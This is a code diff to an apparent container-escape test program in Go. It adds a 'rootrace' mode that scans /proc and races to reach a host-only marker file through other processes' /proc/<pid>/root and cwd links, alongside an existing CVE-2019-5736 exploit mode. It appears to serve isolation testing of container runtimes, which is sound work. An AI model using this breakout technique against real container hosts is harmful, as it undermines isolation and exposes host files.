@@ -116,7 +116,50 @@ func main() {
 		}
 	case "cve-2019-5736":
 		attack(os.Args[2])
+	case "rootrace":
+		rootRace(os.Args[2], os.Args[3])
 	}
+}
+
+// rootRace watches for processes that are not ours (the runtime's init
+// while it joins the container for exec) and tries to reach the host-only
+// path marker through their /proc/<pid>/root and cwd, until stop appears.
+func rootRace(marker, stop string) {
+	self := os.Getpid()
+	seen := map[int]bool{}
+	escaped := map[string]bool{}
+	scans := 0
+	for {
+		if _, err := os.Stat(stop); err == nil {
+			break
+		}
+		scans++
+		d, err := os.Open("/proc")
+		if err != nil {
+			fmt.Println("rootrace: no /proc:", err)
+			return
+		}
+		names, _ := d.Readdirnames(-1)
+		d.Close()
+		for _, n := range names {
+			pid, err := strconv.Atoi(n)
+			if err != nil || pid == self || pid == 1 {
+				continue
+			}
+			seen[pid] = true
+			for _, via := range []string{"root", "cwd"} {
+				p := "/proc/" + n + "/" + via + marker
+				if fd, err := syscall.Open(p, syscall.O_RDONLY|0x200000 /* O_PATH */, 0); err == nil {
+					syscall.Close(fd)
+					if !escaped[p] {
+						escaped[p] = true
+						fmt.Printf("ESCAPED: %s exists\n", p)
+					}
+				}
+			}
+		}
+	}
+	fmt.Printf("rootrace: done; %d scans, %d other processes seen\n", scans, len(seen))
 }
 
 // attack plays the CVE-2019-5736 exploit: grab a handle to the exe of
